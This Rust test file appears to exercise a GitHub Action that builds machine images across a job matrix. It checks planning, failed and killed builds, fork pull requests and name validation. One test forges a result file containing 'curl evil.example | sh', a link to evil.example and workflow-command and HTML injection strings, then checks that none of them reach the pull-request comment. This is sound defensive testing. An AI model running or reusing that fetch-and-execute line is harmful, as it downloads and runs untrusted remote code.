//! `plan`, a job for each build, `join`: the example workflow as GitHub plays it, and what becomes of jobs that do not end well.

use serde_json::{Value, json};

use crate::support::{GitHub, Lab, Left, Run, Stage, Step, Workspace};

const WORKFLOW: &str = include_str!("../../examples/workflows/matrix.yml");
const TEMPLATE: &str = "images/all.json";

/// The checkout of a job: a template with these builds. The one that is called `bad` does not come to its end.
fn checkout(builds: &[&str]) -> Workspace {
    let fixtures = Workspace::with_fixtures();
    let quick: Value = serde_json::from_str(&fixtures.read("quick.json")).unwrap();
    let builder = |(number, name): (usize, &&str)| {
        let mut builder = quick["builders"][0].clone();
        builder["name"] = json!(name);
        builder["ami_name"] = json!(format!("image-{number}-{{{{timestamp}}}}"));
        builder
    };
    let builders: Vec<Value> = builds.iter().enumerate().map(builder).collect();
    let mut template = json!({ "builders": builders });
    if builds.contains(&"bad") {
        template["provisioners"] =
            json!([{"type": "shell", "only": ["bad"], "inline": ["echo so sad; exit 3"]}]);
    }
    let workspace = Workspace::empty();
    std::fs::create_dir(workspace.path().join("images")).unwrap();
    workspace.write(TEMPLATE, &template.to_string());
    workspace
}

/// What a job of the example gives our action, with these values for its expressions.
fn inputs(job: &str, values: &[(&str, &str)]) -> Vec<(String, String)> {
    let head = format!("  {job}:");
    let lines = WORKFLOW.lines().skip_while(|line| *line != head).skip(1);
    let job = lines.take_while(|line| line.is_empty() || line.starts_with("   "));
    let ours = job.skip_while(|line| !line.contains("uses: org/ami-build@"));
    let with = ours.skip_while(|line| line.trim() != "with:").skip(1);
    let given = with.take_while(|line| line.starts_with("          "));
    given
        .filter_map(|line| line.trim().split_once(": "))
        .map(|(name, value)| {
            let expression = |(name, _): &&(&str, &str)| value == format!("${{{{ {name} }}}}");
            let value = values
                .iter()
                .find(expression)
                .map_or(value, |found| found.1);
            (name.to_owned(), value.to_owned())
        })
        .collect()
}

/// The step of a job of the example.
fn step<'a>(job: &str, workspace: &'a Workspace, values: &[(&str, &str)]) -> Step<'a> {
    let given = inputs(job, values);
    assert!(given.len() > 1, "the example's job `{job}`: {given:?}");
    let step = Step::new(workspace, "pull_request");
    given
        .iter()
        .fold(step, |step, (name, value)| step.input(name, value))
}

/// What upload-artifact and download-artifact do with the directory of results.
fn pass_on(from: &Workspace, to: &Workspace) {
    let results = |workspace: &Workspace| workspace.beside("temp").join("ami-build-results");
    std::fs::create_dir_all(results(to)).unwrap();
    let Ok(files) = std::fs::read_dir(results(from)) else {
        return;
    };
    for file in files {
        let file = file.unwrap();
        let target = results(to).join(file.file_name());
        assert!(!target.exists(), "two jobs wrote `{}`", target.display());
        std::fs::copy(file.path(), target).unwrap();
    }
}

fn plan(lab: &Lab, builds: &[&str]) -> Stage {
    let workspace = checkout(builds);
    step("plan", &workspace, &[])
        .identified(lab)
        .run()
        .into_main()
}

fn names(matrix: &Value) -> Vec<&str> {
    let jobs = matrix["include"].as_array().unwrap();
    jobs.iter()
        .map(|job| job["build"].as_str().unwrap())
        .collect()
}

#[test]
fn the_example_plans_once_builds_side_by_side_and_ends_in_one_comment() {
    let (lab, github) = (Lab::new(), GitHub::new());
    let builds = ["web \"1\"", "größe'"];
    let planned = plan(&lab, &builds);
    let matrix = planned.expect_code(0).output("matrix").to_owned();
    let parsed: Value = serde_json::from_str(&matrix).unwrap();
    assert_eq!(names(&parsed), ["größe'", "web \"1\""]);
    assert_eq!(parsed["include"][0]["region"], "us-east-1");
    lab.account_at_rest().assert_holds(Left::Nothing);

    let last = Workspace::empty();
    for build in names(&parsed) {
        let workspace = checkout(&builds);
        let result = step("build", &workspace, &[("matrix.build", build)])
            .identified(&lab)
            .github(&github)
            .run();
        let main = result.main().expect_code(0);
        assert!(
            workspace
                .beside("temp")
                .join(main.output("result-file"))
                .is_file()
        );
        pass_on(&workspace, &last);
    }
    assert_eq!(github.comments().len(), 0, "no job but the last comments");

    let values = [("needs.plan.outputs.matrix", matrix.as_str())];
    let joined = step("join", &last, &values).github(&github).run();
    let main = joined.main().expect_code(0);
    assert_eq!(main.output("conclusion"), "success");
    let account = lab.account_at_rest();
    account.assert_holds(Left::Images(2));
    let comments = github.comments();
    assert_eq!(comments.len(), 1, "{comments:?}");
    for build in builds {
        let id = main.json_output("builds")[build]["ami-id"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        assert!(account.ids("images").contains(&id), "{build}: `{id}`");
        assert!(comments[0].1.contains(&id), "{}", comments[0].1);
        assert!(main.summary().contains(&id), "{}", main.summary());
    }
    assert!(!main.output("comment-url").is_empty());
    github.assert_no_violation();
}

#[test]
fn a_build_that_failed_and_one_whose_job_was_killed_fail_the_join_and_are_told() {
    let (lab, github) = (Lab::new(), GitHub::new());
    let builds = ["web", "bad", "lost"];
    let planned = plan(&lab, &builds);
    let matrix = planned.expect_code(0).output("matrix").to_owned();
    let last = Workspace::empty();
    for (build, code) in [("web", 0), ("bad", 1)] {
        let workspace = checkout(&builds);
        step("build", &workspace, &[("matrix.build", build)])
            .identified(&lab)
            .run()
            .main()
            .expect_code(code);
        pass_on(&workspace, &last);
    }
    let killed = checkout(&builds);
    step("build", &killed, &[("matrix.build", "lost")])
        .identified(&lab)
        .kill_on("Launching")
        .run();
    pass_on(&killed, &last);

    let values = [("needs.plan.outputs.matrix", matrix.as_str())];
    let joined = step("join", &last, &values).github(&github).run();
    let main = joined.main().expect_code(1);
    assert_eq!(main.output("conclusion"), "provision");
    let made = main.json_output("builds");
    let made: Vec<&String> = made.as_object().unwrap().keys().collect();
    assert_eq!(made, ["web"]);
    let comments = github.comments();
    let [(_, body, _)] = comments.as_slice() else {
        panic!("{comments:?}")
    };
    for text in [
        "so sad",
        "there is no result of this build",
        "<code>web</code> (amazon-ebs): success",
        "<code>bad</code> (amazon-ebs): provision",
        "<code>lost</code> (amazon-ebs): failure",
    ] {
        assert!(body.contains(text), "no `{text}` in:\n{body}");
    }
}

#[test]
fn results_that_somebody_forged_take_no_effect_in_the_comment() {
    let (lab, github) = (Lab::new(), GitHub::new());
    let planned = plan(&lab, &["web"]);
    let matrix = planned.expect_code(0).output("matrix").to_owned();
    let result = json!({
        "ami-build-result": 1, "template": TEMPLATE, "only": ["web"], "attempt": 1, "reality": "built", "problems": [],
        "duration": {"secs": 1, "nanos": 0},
        "builds": [{
            "facts": {
                "name": "web", "kind": "<b>@octo-org", "timeline": [], "advice": ["::add-mask::x [y](https://evil.example)"],
                "outcome": {"failed": {
                    "conclusion": "image", "error": "</details> @octo-org/all #1 `````", "log_tail": [], "product": "nothing"
                }},
                "rehearsed": null
            },
            "cleaned": [],
            "remaining": [{"what": "x", "why": "y", "command": "curl evil.example | sh", "intent": "leftover"}]
        }]
    });
    let last = Workspace::empty();
    let results = last.beside("temp").join("ami-build-results");
    std::fs::create_dir_all(results.join("one")).unwrap();
    std::fs::write(results.join("one/result-0.json"), result.to_string()).unwrap();
    std::fs::write(results.join("result-1.json"), "x".repeat(2_000_000)).unwrap();
    let values = [("needs.plan.outputs.matrix", matrix.as_str())];
    let joined = step("join", &last, &values).github(&github).run();
    let main = joined.main().expect_code(1);
    main.expect_text("`result-1.json` does not count: it is larger than");
    let (_, body, _) = github.comments().remove(0);
    assert!(body.contains("Failed while making"), "{body}");
    for text in ["<b>", "](https", "curl"] {
        assert!(!body.contains(text), "`{text}` in:\n{body}");
    }
}

#[test]
fn a_pull_request_from_a_fork_is_planned_and_nothing_is_asked_of_aws() {
    let lab = Lab::new();
    let workspace = checkout(&["web"]);
    let result = step("plan", &workspace, &[]).lab(&lab).fork().run();
    let main = result.main().expect_code(0);
    assert_eq!(names(&main.json_output("matrix")), ["web"]);
    main.expect_text("nothing was asked of AWS");
    assert_eq!(lab.calls().len(), 0);
}

#[test]
fn names_that_no_job_could_ask_for_are_refused_all_at_once_and_with_their_places() {
    let workspace = checkout(&["a,b", "fine", " c", "now-{{timestamp}}"]);
    let finished = Run::new(&workspace, &["plan", TEMPLATE])
        .finish()
        .expect_code(1);
    finished
        .expect_text("no job can ask for the build `a,b`: it has a comma")
        .expect_text("no job can ask for the build ` c`: it is empty or has blanks")
        .expect_text("its name is another one in every run")
        .expect_text("/builders/0/name");
}

#[test]
fn a_name_with_a_sensitive_value_is_refused_and_not_printed() {
    let workspace = checkout(&["web-{{user `password`}}"]);
    let text = workspace.read(TEMPLATE);
    let mut template: Value = serde_json::from_str(&text).unwrap();
    template["variables"] = json!({"password": "hunter2hunter2"});
    template["sensitive-variables"] = json!(["password"]);
    workspace.write(TEMPLATE, &template.to_string());
    let finished = Run::new(&workspace, &["plan", "-json", TEMPLATE])
        .finish()
        .expect_code(1);
    let finished = finished.expect_text("its name has a sensitive value in it");
    assert!(!finished.output.contains("hunter2"), "{}", finished.output);
}

#[test]
fn a_selection_that_leaves_nothing_is_an_error() {
    let workspace = checkout(&["web"]);
    let lab = Lab::new();
    let result = step("plan", &workspace, &[])
        .identified(&lab)
        .input("only", "other")
        .run();
    let main = result.main().expect_code(1);
    main.expect_text("there are no builds, and a matrix needs one");
    assert_eq!(main.output("conclusion"), "invalid");
    assert_eq!(main.output("matrix"), "");
}

#[test]
fn the_document_shows_the_example_as_it_is() {
    let page = include_str!("../../docs/matrix.md");
    assert!(page.contains(&format!("```yaml\n{WORKFLOW}```\n")));
}
